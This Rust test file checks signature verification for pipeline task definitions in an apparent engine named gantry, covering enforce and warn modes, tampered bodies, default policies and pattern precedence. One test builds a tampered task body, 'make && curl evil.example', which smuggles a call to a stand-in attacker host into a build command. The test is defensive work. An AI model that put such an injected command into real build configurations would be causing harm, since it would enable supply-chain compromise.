// tests/verification_policy.rs

//! Trusted Resources: verify-before-dispatch under enforce/warn policies.

use std::sync::Arc;

use gantry::config::{ConfigFile, PolicyConfig, ResourceKind};
use gantry::dag::PipelineStatus;
use gantry::errors::EngineError;
use gantry::execute_pipeline;
use gantry::types::{StorageMode, UnmatchedPolicy, VerificationMode};
use gantry_test_utils::builders::{ConfigFileBuilder, TaskConfigBuilder};
use gantry_test_utils::deps::memory_deps;
use gantry_test_utils::fake_substrate::FakeSubstrate;
use gantry_test_utils::keys::{fingerprint, generate_signing_key, sign_resource};
use gantry_test_utils::{init_tracing, with_timeout};

type TestResult = Result<(), Box<dyn std::error::Error>>;

fn policy(name: &str, pattern: &str, identity: &str, mode: VerificationMode) -> PolicyConfig {
    PolicyConfig {
        name: name.to_string(),
        pattern: pattern.to_string(),
        identities: vec![identity.to_string()],
        mode: Some(mode),
    }
}

/// Build a one-task pipeline under a `build-*` policy, optionally signing
/// the task definition with the given key.
fn policed_config(
    dir: &str,
    mode: VerificationMode,
    identity: &str,
    sign_with: Option<&ed25519_dalek::SigningKey>,
) -> ConfigFile {
    let task = TaskConfigBuilder::new("make").build();

    let mut builder = ConfigFileBuilder::new("pipeline")
        .with_storage(StorageMode::Memory, dir)
        .with_verification_mode(mode)
        .with_policy(policy("build-policy", "build-*", identity, mode))
        .with_task("build-image", task.clone());

    if let Some(key) = sign_with {
        builder = builder.with_signature(sign_resource(
            ResourceKind::Task,
            "build-image",
            &task,
            key,
        ));
    }

    builder.build()
}

#[tokio::test]
async fn enforce_blocks_unsigned_resource() -> TestResult {
    init_tracing();
    let dir = tempfile::tempdir()?;
    let key = generate_signing_key();

    let cfg = policed_config(
        dir.path().to_str().unwrap(),
        VerificationMode::Enforce,
        &fingerprint(&key),
        None,
    );

    let substrate = Arc::new(FakeSubstrate::new());
    let deps = memory_deps(substrate.clone());

    let err = with_timeout(execute_pipeline(&cfg, Default::default(), deps))
        .await
        .expect_err("dispatch must be refused");
    assert!(matches!(err, EngineError::Verification(_)), "got {err:?}");

    // Refused before any run was created: nothing executed.
    assert!(substrate.executed().is_empty());

    Ok(())
}

#[tokio::test]
async fn enforce_blocks_wrongly_signed_resource() -> TestResult {
    init_tracing();
    let dir = tempfile::tempdir()?;
    let trusted = generate_signing_key();
    let rogue = generate_signing_key();

    // Signed, but by an identity the policy does not trust.
    let cfg = policed_config(
        dir.path().to_str().unwrap(),
        VerificationMode::Enforce,
        &fingerprint(&trusted),
        Some(&rogue),
    );

    let substrate = Arc::new(FakeSubstrate::new());
    let deps = memory_deps(substrate);

    let err = with_timeout(execute_pipeline(&cfg, Default::default(), deps))
        .await
        .expect_err("dispatch must be refused");
    assert!(matches!(err, EngineError::Verification(_)), "got {err:?}");

    Ok(())
}

#[tokio::test]
async fn correctly_signed_resource_dispatches_under_enforce() -> TestResult {
    init_tracing();
    let dir = tempfile::tempdir()?;
    let key = generate_signing_key();

    let cfg = policed_config(
        dir.path().to_str().unwrap(),
        VerificationMode::Enforce,
        &fingerprint(&key),
        Some(&key),
    );

    let substrate = Arc::new(FakeSubstrate::new());
    let deps = memory_deps(substrate.clone());

    let report = with_timeout(execute_pipeline(&cfg, Default::default(), deps)).await?;
    assert_eq!(report.status, PipelineStatus::Succeeded);
    assert_eq!(substrate.executed_tasks(), vec!["build-image".to_string()]);

    Ok(())
}

#[tokio::test]
async fn warn_mode_allows_unsigned_resource_through() -> TestResult {
    init_tracing();
    let dir = tempfile::tempdir()?;
    let key = generate_signing_key();

    let cfg = policed_config(
        dir.path().to_str().unwrap(),
        VerificationMode::Warn,
        &fingerprint(&key),
        None,
    );

    let substrate = Arc::new(FakeSubstrate::new());
    let deps = memory_deps(substrate.clone());

    let report = with_timeout(execute_pipeline(&cfg, Default::default(), deps)).await?;
    assert_eq!(report.status, PipelineStatus::Succeeded);
    assert_eq!(substrate.executed_tasks(), vec!["build-image".to_string()]);

    Ok(())
}

#[tokio::test]
async fn editing_signed_task_body_invalidates_verification() -> TestResult {
    init_tracing();
    let dir = tempfile::tempdir()?;
    let key = generate_signing_key();

    // Sign one body, then ship a config whose task body differs.
    let signed_task = TaskConfigBuilder::new("make").build();
    let edited_task = TaskConfigBuilder::new("make && curl evil.example").build();

    let cfg = ConfigFileBuilder::new("pipeline")
        .with_storage(StorageMode::Memory, dir.path().to_str().unwrap())
        .with_verification_mode(VerificationMode::Enforce)
        .with_policy(policy(
            "build-policy",
            "build-*",
            &fingerprint(&key),
            VerificationMode::Enforce,
        ))
        .with_task("build-image", edited_task)
        .with_signature(sign_resource(
            ResourceKind::Task,
            "build-image",
            &signed_task,
            &key,
        ))
        .build();

    let substrate = Arc::new(FakeSubstrate::new());
    let deps = memory_deps(substrate);

    let err = with_timeout(execute_pipeline(&cfg, Default::default(), deps))
        .await
        .expect_err("stale signature must not verify");
    assert!(matches!(err, EngineError::Verification(_)), "got {err:?}");

    Ok(())
}

#[tokio::test]
async fn valid_signature_survives_mode_change_to_enforce() -> TestResult {
    init_tracing();
    let dir = tempfile::tempdir()?;
    let key = generate_signing_key();

    // First run under warn, then the same signed definition under enforce:
    // both dispatch.
    for mode in [VerificationMode::Warn, VerificationMode::Enforce] {
        let cfg = policed_config(
            dir.path().to_str().unwrap(),
            mode,
            &fingerprint(&key),
            Some(&key),
        );

        let substrate = Arc::new(FakeSubstrate::new());
        let deps = memory_deps(substrate);
        let report = with_timeout(execute_pipeline(&cfg, Default::default(), deps)).await?;
        assert_eq!(report.status, PipelineStatus::Succeeded, "mode {mode:?}");
    }

    Ok(())
}

#[tokio::test]
async fn unmatched_resource_follows_configured_default() -> TestResult {
    init_tracing();

    // Default-allow: a resource with no matching policy dispatches.
    {
        let dir = tempfile::tempdir()?;
        let cfg = ConfigFileBuilder::new("pipeline")
            .with_storage(StorageMode::Memory, dir.path().to_str().unwrap())
            .with_verification_mode(VerificationMode::Enforce)
            .with_unmatched(UnmatchedPolicy::Allow)
            .with_task("deploy", TaskConfigBuilder::new("deploy").build())
            .build();

        let deps = memory_deps(Arc::new(FakeSubstrate::new()));
        let report = with_timeout(execute_pipeline(&cfg, Default::default(), deps)).await?;
        assert_eq!(report.status, PipelineStatus::Succeeded);
    }

    // Default-deny: the same config is refused.
    {
        let dir = tempfile::tempdir()?;
        let cfg = ConfigFileBuilder::new("pipeline")
            .with_storage(StorageMode::Memory, dir.path().to_str().unwrap())
            .with_verification_mode(VerificationMode::Enforce)
            .with_unmatched(UnmatchedPolicy::Deny)
            .with_task("deploy", TaskConfigBuilder::new("deploy").build())
            .build();

        let deps = memory_deps(Arc::new(FakeSubstrate::new()));
        let err = with_timeout(execute_pipeline(&cfg, Default::default(), deps))
            .await
            .expect_err("default-deny must refuse unmatched resources");
        assert!(matches!(err, EngineError::Verification(_)), "got {err:?}");
    }

    Ok(())
}

#[tokio::test]
async fn most_specific_policy_pattern_wins() -> TestResult {
    init_tracing();
    let dir = tempfile::tempdir()?;
    let trusted = generate_signing_key();

    // A broad warn policy and a narrower enforce policy both match; the
    // narrower one must be applied, so the unsigned task is refused.
    let cfg = ConfigFileBuilder::new("pipeline")
        .with_storage(StorageMode::Memory, dir.path().to_str().unwrap())
        .with_verification_mode(VerificationMode::Warn)
        .with_policy(policy(
            "anything",
            "*",
            &fingerprint(&trusted),
            VerificationMode::Warn,
        ))
        .with_policy(policy(
            "build-strict",
            "build-*",
            &fingerprint(&trusted),
            VerificationMode::Enforce,
        ))
        .with_task("build-image", TaskConfigBuilder::new("make").build())
        .build();

    let deps = memory_deps(Arc::new(FakeSubstrate::new()));
    let err = with_timeout(execute_pipeline(&cfg, Default::default(), deps))
        .await
        .expect_err("narrow enforce policy must win");
    assert!(matches!(err, EngineError::Verification(_)), "got {err:?}");

    Ok(())
}
